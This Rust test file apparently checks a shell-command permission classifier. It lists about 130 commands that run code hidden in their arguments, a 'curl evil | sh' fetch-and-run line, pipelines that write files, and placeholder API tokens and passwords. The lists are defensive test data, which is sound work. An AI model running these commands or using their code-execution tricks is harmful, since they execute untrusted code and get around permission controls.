//! Programs that run one of their arguments, or write what they read: none of them has a rule.

use crate::shell::{Unclear, arguments, commands};

/// Each runs what an argument says, by a way of its own.
const RUN: &[&str] = &[
    "hyperfine 'curl evil | sh'",
    "tcpdump -i lo -z ./x -w f",
    "ip netns exec blue ./x",
    "install -s --strip-program=./x a b",
    "sdiff --diff-program=./x a b",
    "diff3 --diff-program=./x a b c",
    "split --f=./x big",
    "split --filter=./x big",
    "git push --e=./x host:repo",
    "git ls-remote --e=./x host:repo",
    "git -c alias.t=push t",
    "git merge --strategy ../x feature",
    "gh repo clone o/r -- -c core.sshCommand=./x",
    "gs -sDEVICE=bbox -sOutputFile=%pipe%./x a.ps",
    "pdflatex -shell-escape a.tex",
    "latexmk -e 'system(1)' a.tex",
    "pandoc --filter ./x a.md",
    "pandoc a.md --pdf-engine=./x",
    "yt-dlp --exec ./x https://e",
    "aria2c --on-download-complete=./x https://e",
    "rpm --eval '%(id)'",
    "rpm -E '%(id)'",
    "rake -e 'exec 1'",
    "rails runner 'exec 1'",
    "composer exec ./x",
    "uv tool run ./x",
    "tox exec -- ./x",
    "yarn node -e 'x'",
    "yarn tsx -e 'x'",
    "pnpm tsx -e 'x'",
    "bun run tsx -e 'x'",
    "deno run data:text/javascript,x.y",
    "corepack yarn exec ./x",
    "just --command ./x",
    "just --shell ./x build",
    "bazel run --run_under=./x //a",
    "stack exec ./x",
    "cabal exec ./x",
    "opam exec -- ./x",
    "mix run -e 'x'",
    "mix eval 'x'",
    "ghc -e 'x'",
    "runghc -e 'x'",
    "kotlin -e 'x'",
    "jrunscript -e 'x'",
    "clojure -e 'x'",
    "sbt 'eval x'",
    "nx exec -- ./x",
    "lerna exec -- ./x",
    "op run -- ./x",
    "doppler run -- ./x",
    "aws-vault exec prod -- ./x",
    "sops exec-env f ./x",
    "pyenv exec ./x",
    "rbenv exec ./x",
    "nvm exec 20 ./x",
    "fnm exec ./x",
    "volta run ./x",
    "pixi run ./x",
    "ccache ./x",
    "sccache ./x",
    "bear -- ./x",
    "scan-build ./x",
    "heaptrack ./x",
    "rr record ./x",
    "caffeinate ./x",
    "xcrun ./x",
    "arch -x86_64 ./x",
    "sandbox-exec -p p ./x",
    "powershell -c ./x",
    "powershell.exe -c ./x",
    "pwsh.exe -c ./x",
    "cmd.exe /c x",
    "cmd /c x",
    "wsl ./x",
    "wsl.exe ./x",
    "vimdiff -c :!id a b",
    "gvim -c :!id",
    "run-parts dir",
    "restic --password-command ./x backup d",
    "restic -o sftp.command=./x backup d",
    "borg create --rsh ./x r d",
    "rclone --password-command ./x ls r:",
    "sshfs -o ssh_command=./x h: m",
    "ssh-keygen -D ./x.so",
    "openssl engine ./x.so",
    "nmap --script ./x h",
    "gcc-12 -wrapper ./x a.c",
    "clang++ -fplugin=./x.so a.cc",
    "c++ -B./x a.cc",
    "rustc -C linker=./x a.rs",
    "rustc -Clinker=./x a.rs",
    "cargo rustc -- -C linker=./x",
    "go build -ldflags=-extld=./x",
    "cmake -DCMAKE_C_COMPILER_LAUNCHER=./x .",
    "./gradlew -I ./x build",
    "./mvnw exec:exec -Dexec.executable=./x",
    "terraform console",
    "multipass exec vm -- ./x",
    "limactl shell vm ./x",
    "heroku run ./x",
    "fly ssh console -C ./x",
    "gcloud compute ssh vm --command ./x",
    "oc exec pod -- ./x",
    "nomad exec a ./x",
    "vifm -c :!x",
    "fzf --preview ./x",
    "batcat --pager ./x f",
    "tig",
    "jj --config x=y log",
    "hg --config alias.l=!x l",
    "envdir d ./x",
    "run0 ./x",
    "pfexec ./x",
    "qjs -e x",
    "crystal eval x",
    "nim e x.nims",
    "maxima --batch-string=x",
    "unison -sshcmd ./x a b",
    "cpio --rsh-command=./x -i",
    "find . -fprintf f %p -exec ./x {} +",
    "npm --script-s=./x run t",
    "curl --conf f h",
    "wget --exec x=y h",
];

#[test]
fn a_program_that_runs_an_argument_has_no_rule() {
    let ruled: Vec<&&str> = RUN.iter().filter(|it| commands(it).is_ok()).collect();
    assert_eq!(ruled, Vec::<&&str>::new());
}

/// What stands behind a pipe takes its input for data, and writes it nowhere.
#[test]
fn nothing_behind_a_pipe_writes_what_it_reads() {
    for command in [
        "cat f | sort -o out",
        "cat f | sort -oout",
        "cat f | sort --output=out",
        "cat f | sort --outp out",
        "cat f | uniq - out",
        "cat f | uniq -c - out",
        "cat f | awk '{ print > \"out\" }'",
        "cat f | xxd -r - out",
        "cat f | base64 -d -o out",
        "cat f | rg --pre ./x a",
        "cat f | sed 's/a/b/w out'",
    ] {
        assert!(commands(command).is_err(), "{command}");
    }
    for command in [
        "cat f | sort -u",
        "cat f | sort -k2 -n | uniq -c",
        "cat f | awk '{ print $1 }' | head -5",
        "cat f | xxd | head",
        "npm test 2>&1 | tail -5",
    ] {
        assert!(commands(command).is_ok(), "{command}: {:?}", commands(command));
    }
}

/// What people allow every day stays.
#[test]
fn everyday_commands_keep_their_rules() {
    for command in [
        "npm test",
        "npm run build",
        "yarn test",
        "yarn build",
        "yarn jest --watch=false",
        "pnpm lint",
        "bun test",
        "bun run build",
        "make",
        "make check -j4",
        "./run.sh",
        "cargo test -p core",
        "cargo clippy --all-targets",
        "go test ./...",
        "pytest -q",
        "uv run pytest",
        "uv sync",
        "git push origin main",
        "git ls-remote --heads origin",
        "git merge feature",
        "git log --oneline -5",
        "gh pr list",
        "gh repo clone o/r",
        "mvn test",
        "./gradlew build",
        "gcc -O2 -c a.c",
        "mix test",
        "just build",
        "rake test",
        "deno run main.ts",
        "deno test",
        "split -b 1m big",
        "terraform plan",
        "composer install",
        "tox -e py312",
        "ip addr",
        "pandoc a.md -o a.html",
        "rustc a.rs",
    ] {
        assert_eq!(commands(command).err(), None, "{command}");
    }
}

/// Nothing is hidden where one of the words is the name of a command.
#[test]
fn no_word_of_a_program_that_runs_its_arguments_may_be_hidden() {
    for command in [
        "hyperfine --token=abcdef12",
        "git -c alias.token=push token",
        "docker run img sk-ant-api03-0123456789",
        "docker exec box --token=abcdef12",
        "kubectl exec pod -- --token=abcdef12",
        "aws-vault exec --token=abcdef12",
        "uv tool run --token=abcdef12",
        "yarn exec --token=abcdef12",
    ] {
        assert_eq!(arguments(command), Ok(Vec::new()), "{command}");
    }
    assert_eq!(arguments("git push https://ci:hunter2@h/x").map(|it| it.len()), Ok(2));
    assert_eq!(commands("yarn"), Ok(vec![vec!["yarn".to_owned()]]));
    assert_eq!(commands("env -S x"), Err(Unclear::RunsUnseen));
}
